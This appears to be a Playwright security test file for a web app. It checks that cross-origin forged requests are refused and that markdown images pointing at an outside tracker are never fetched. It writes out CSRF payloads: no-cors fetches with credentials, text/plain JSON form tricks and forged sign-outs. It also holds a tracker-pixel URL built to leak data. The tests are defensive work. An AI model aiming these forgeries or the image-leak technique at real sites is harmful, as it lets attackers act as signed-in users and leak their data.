import type { Page } from '@playwright/test'
import { AppHeader } from './pages/app-header.ts'
import { Bell } from './pages/bell.ts'
import { ChatPage } from './pages/chat-page.ts'
import { PRINTER_PROBLEM } from './support/api.ts'
import { demoUsers } from './support/demo-users.ts'
import { startOtherOrigin } from './support/other-origin.ts'
import { seedEscalatedSession } from './support/seed.ts'
import { expect, test } from './support/test.ts'

/** Collects the page's Content-Security-Policy violations (an init script is not subject to the CSP). */
async function watchCsp(page: Page) {
  await page.addInitScript(() => {
    const w = window as unknown as { __csp: string[] }
    w.__csp = []
    document.addEventListener('securitypolicyviolation', (e) => w.__csp.push(`${e.violatedDirective} ${e.blockedURI}`))
  })
  return () => page.evaluate(() => (window as unknown as { __csp: string[] }).__csp)
}

test('forged requests from another port of the host are all refused and change nothing; the app’s own requests still work', async ({ signInAs, uniqueTitle, baseURL }) => {
  const jamie = await signInAs(demoUsers.jamie)
  const sam = await signInAs(demoUsers.sam)
  const { session, handoff } = await seedEscalatedSession(jamie.api, uniqueTitle('Forgery target'))
  const before = await sam.api.notifications()
  const target = before.notifications.find((n) => n.session_id === session.id && !n.read)
  expect(target, 'the senior has an unread notification for the escalation').toBeTruthy()
  const app = baseURL!

  // Every way a page of another origin can make the browser send a state-changing request
  // without a CORS preflight (plus one that needs a preflight, which must fail).
  const forgeries = {
    'no-cors fetch: create a session (no body)': `fetch('${app}/api/sessions', { method: 'POST', mode: 'no-cors', credentials: 'include' })`,
    'no-cors fetch: create a session (text/plain JSON)': `fetch('${app}/api/sessions', { method: 'POST', mode: 'no-cors', credentials: 'include', body: '{"title":"forged"}' })`,
    'no-cors fetch: mark one notification read': `fetch('${app}/api/notifications/${target!.id}/read', { method: 'POST', mode: 'no-cors', credentials: 'include' })`,
    'no-cors fetch: mark all read': `fetch('${app}/api/notifications/read-all', { method: 'POST', mode: 'no-cors', credentials: 'include' })`,
    'no-cors fetch: regenerate the assessment': `fetch('${app}/api/handoffs/${handoff.id}/assessment/regenerate', { method: 'POST', mode: 'no-cors', credentials: 'include' })`,
    'no-cors fetch: post a message (text/plain)': `fetch('${app}/api/sessions/${session.id}/messages', { method: 'POST', mode: 'no-cors', credentials: 'include', body: '{"content":"forged"}' })`,
    'no-cors fetch: claim (text/plain)': `fetch('${app}/api/handoffs/${handoff.id}/claim', { method: 'POST', mode: 'no-cors', credentials: 'include', body: '{"option":"own"}' })`,
    'no-cors fetch: sign out': `fetch('${app}/api/auth/logout', { method: 'POST', mode: 'no-cors', credentials: 'include' })`,
    'cors fetch: rename (needs a preflight)': `fetch('${app}/api/sessions/${session.id}', { method: 'PATCH', credentials: 'include', headers: { 'content-type': 'application/json' }, body: '{"title":"forged"}' })`,
  }
  const forms = {
    'form (text/plain): mark all read': { action: '/api/notifications/read-all', enctype: 'text/plain', fields: { '{"a":"': '"}' } },
    'form (urlencoded): mark one notification read': { action: `/api/notifications/${target!.id}/read`, enctype: 'application/x-www-form-urlencoded', fields: { x: '1' } },
    'form (multipart): escalate': { action: `/api/sessions/${session.id}/handoffs`, enctype: 'multipart/form-data', fields: { note: 'forged' } },
    'form (urlencoded): claim': { action: `/api/handoffs/${handoff.id}/claim`, enctype: 'application/x-www-form-urlencoded', fields: { option: 'own' } },
    'form (urlencoded): create a session': { action: '/api/sessions', enctype: 'application/x-www-form-urlencoded', fields: { title: 'forged' } },
    'form (empty): sign out': { action: '/api/auth/logout', enctype: 'application/x-www-form-urlencoded', fields: {} },
  }
  const formHtml = Object.entries(forms)
    .map(([name, f], i) => {
      const inputs = Object.entries(f.fields).map(([k, v]) => `<input name='${k}' value='${v}'>`).join('')
      return `<iframe name="sink${i}"></iframe><form id="f${i}" data-name="${name}" method="POST" action="${app}${f.action}" enctype="${f.enctype}" target="sink${i}">${inputs}</form>`
    })
    .join('\n')
  const attacker = await startOtherOrigin({
    '/attack.html': `<!doctype html><html><body>${formHtml}<script src="/attack.js"></script></body></html>`,
  })
  attacker.pages['/attack.js'] = ''

  try {
    for (const actor of [sam, jamie]) {
      // Every answer the app gives to the attacker's page, read from the network layer: the
      // browser hides no-cors answers from the page (and from Playwright's response events).
      // CDP does not order a response's ExtraInfo after its request, so statuses are kept apart
      // and joined when read.
      const sent = new Map<string, { url: string; method: string }>()
      const statuses = new Map<string, number>()
      const cdp = await actor.page.context().newCDPSession(actor.page)
      await cdp.send('Network.enable')
      cdp.on('Network.requestWillBeSent', (e) => {
        if (e.request.url.startsWith(app)) sent.set(e.requestId, { url: e.request.url, method: e.request.method })
      })
      cdp.on('Network.responseReceivedExtraInfo', (e) => statuses.set(e.requestId, e.statusCode))
      cdp.on('Network.responseReceived', (e) => statuses.set(e.requestId, e.response.status))
      // What reached the server and got an answer (the PATCH is sent to the network layer but its failed preflight stops it).
      const answers = () =>
        [...sent.entries()]
          .map(([id, request]) => ({ ...request, status: statuses.get(id) }))
          .filter((a) => a.method !== 'OPTIONS' && a.status !== undefined)
      await actor.page.goto(`${attacker.origin}/attack.html`)
      await actor.page.evaluate(async (calls) => {
        // The app's Cross-Origin-Resource-Policy also hides each answer from this page (the
        // fetch rejects): what matters is what the server did, read from its answers below.
        for (const call of calls) await (new Function(`return ${call}`)() as Promise<unknown>).catch(() => null)
      }, Object.values(forgeries))
      for (let i = 0; i < Object.keys(forms).length; i++) {
        const action = `${app}${Object.values(forms)[i]!.action}`
        const loaded = actor.page.waitForResponse((r) => r.url() === action && r.request().method() === 'POST')
        await actor.page.evaluate((id) => (document.getElementById(id) as HTMLFormElement).submit(), `f${i}`)
        await loaded
      }
      const expected = Object.keys(forgeries).length - 1 + Object.keys(forms).length
      await expect
        .poll(() => answers().length, { message: JSON.stringify(answers()) })
        .toBeGreaterThanOrEqual(expected)
      await cdp.detach()
      const posted = answers()
      // 8 no-cors fetches and 6 forms reached the app; the PATCH never left the browser (its preflight failed).
      expect(posted, JSON.stringify(posted)).toHaveLength(Object.keys(forgeries).length - 1 + Object.keys(forms).length)
      expect(posted.map((a) => a.status)).toEqual(posted.map(() => 403))
      expect(posted.filter((a) => a.method === 'PATCH')).toEqual([])
    }
  } finally {
    await attacker.close()
  }

  await test.step('nothing changed', async () => {
    const after = await sam.api.notifications()
    // Nothing was marked read. (Reminders of other files' escalations may reach the bell meanwhile.)
    const unreadBefore = new Set(before.notifications.filter((n) => !n.read).map((n) => n.id))
    expect(after.notifications.filter((n) => unreadBefore.has(n.id) && n.read)).toEqual([])
    expect(after.unread).toBeGreaterThanOrEqual(before.unread)
    expect(after.notifications.find((n) => n.id === target!.id)?.read).toBe(false)
    const detail = await jamie.api.getSession(session.id)
    expect(detail.session.title).toBe(session.title)
    expect(detail.messages.map((m) => m.content)).not.toContain('forged')
    expect(detail.handoff).toMatchObject({ id: handoff.id, status: 'pending', assessment_status: 'ready' })
    const sessions = await jamie.page.request.get('/api/sessions')
    expect(((await sessions.json()) as { sessions: { title: string }[] }).sessions.map((s) => s.title)).not.toContain('forged')
    // Both are still signed in: the forged sign-outs did nothing.
    expect((await sam.page.request.get('/api/me')).status()).toBe(200)
    expect((await jamie.page.request.get('/api/me')).status()).toBe(200)
  })

  await test.step('the web app’s own requests still work, with no CSP violation', async () => {
    const violations = await watchCsp(sam.page)
    const bell = new Bell(sam.page)
    await sam.page.goto('/')
    await bell.open()
    await expect(bell.notificationAbout(session.title)).toBeVisible()
    await bell.panel.getByRole('button', { name: 'Mark all read' }).click()
    await expect(bell.button).toHaveAccessibleName(Bell.labelFor(0))
    await bell.button.click()
    await sam.page.getByRole('button', { name: 'New session' }).first().click()
    await expect(sam.page).toHaveURL(/\/chat\/[\w-]+$/)
    const chat = new ChatPage(sam.page)
    await expect(chat.emptyConversation).toBeVisible()
    await expect(chat.composer).toBeFocused()
    await chat.composer.fill(PRINTER_PROBLEM)
    await chat.composer.press('Enter')
    await expect(chat.messageFrom('Sam Patel')).toContainText(PRINTER_PROBLEM)
    // The streamed reply and its task lane (slow on a loaded machine).
    await expect(chat.taskCard(0)).toBeVisible({ timeout: 30_000 })
    await new AppHeader(sam.page).signOut.click()
    await expect(sam.page).toHaveURL(/\/login/)
    expect(await violations()).toEqual([])
  })
})

test('an image in a message is never fetched, and the CSP would refuse it anyway', async ({ signInAs, uniqueTitle }) => {
  const tracker = await startOtherOrigin()
  try {
    const jamie = await signInAs(demoUsers.jamie)
    const pixel = `${tracker.origin}/pixel.png?leak=printer-at-dunmore`
    const session = await jamie.api.createSession(uniqueTitle('Image leak'))
    await jamie.api.sendMessage(session.id, `The status page shows this: ![status](${pixel})`)
    const violations = await watchCsp(jamie.page)
    const requested: string[] = []
    jamie.page.on('request', (r) => requested.push(r.url()))

    await new ChatPage(jamie.page).goto(session.id)
    const link = jamie.page.getByRole('link', { name: 'Image: status' })
    await expect(link).toBeVisible()
    await expect(link).toHaveAttribute('href', pixel)
    await expect(jamie.page.locator('.markdown img')).toHaveCount(0)
    expect(requested.filter((u) => u.startsWith(tracker.origin))).toEqual([])

    // Even an image element put in the page by other means is refused by img-src: the
    // browser reports the violation instead of fetching.
    const refused = await jamie.page.evaluate(
      (src) =>
        new Promise<string>((resolve) => {
          document.addEventListener('securitypolicyviolation', (e) => resolve(`${e.violatedDirective} ${e.blockedURI}`), { once: true })
          const img = new Image()
          img.src = src
          document.body.append(img)
        }),
      pixel,
    )
    expect(refused).toMatch(/^img-src http:\/\/127\.0\.0\.1:\d+\/pixel\.png/)
    // The tracker itself is the judge: not one request reached it.
    expect(tracker.received).toEqual([])
    // The only violation is the one this test provoked.
    expect(await violations()).toEqual([refused])
  } finally {
    await tracker.close()
  }
})
